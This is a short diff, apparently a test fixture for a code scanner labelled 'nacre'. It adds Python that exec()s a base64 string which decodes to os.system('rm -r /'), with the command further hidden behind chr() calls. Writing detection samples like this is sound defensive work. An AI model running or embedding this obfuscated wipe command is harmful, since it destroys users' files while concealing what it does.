@@ -1,0 +1,3 @@
+# nacre: refused file.destroy code.eval-decoded
+import base64
+exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oY2hyKDExNCkgKyBjaHIoMTA5KSArIGNocigzMikgKyBjaHIoNDUpICsgY2hyKDExNCkgKyBjaHIoMzIpICsgY2hyKDQ3KSk="))
